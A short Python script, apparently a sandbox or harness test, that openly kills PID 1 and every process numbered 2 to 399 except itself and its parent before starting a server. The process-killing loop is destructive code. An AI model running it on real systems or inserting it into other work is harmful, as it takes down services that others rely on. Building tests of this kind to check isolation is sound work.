# Sends SIGKILL to every process, including pid 1 of its namespace.
import os, signal, subprocess, sys
from serve import serve
subprocess.run([sys.executable, "-c", "import os, signal\nos.kill(1, signal.SIGKILL)\nos.kill(1, signal.SIGSTOP)"], check=False)
for number in range(2, 400):
    if number not in (os.getpid(), os.getppid()):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
serve()
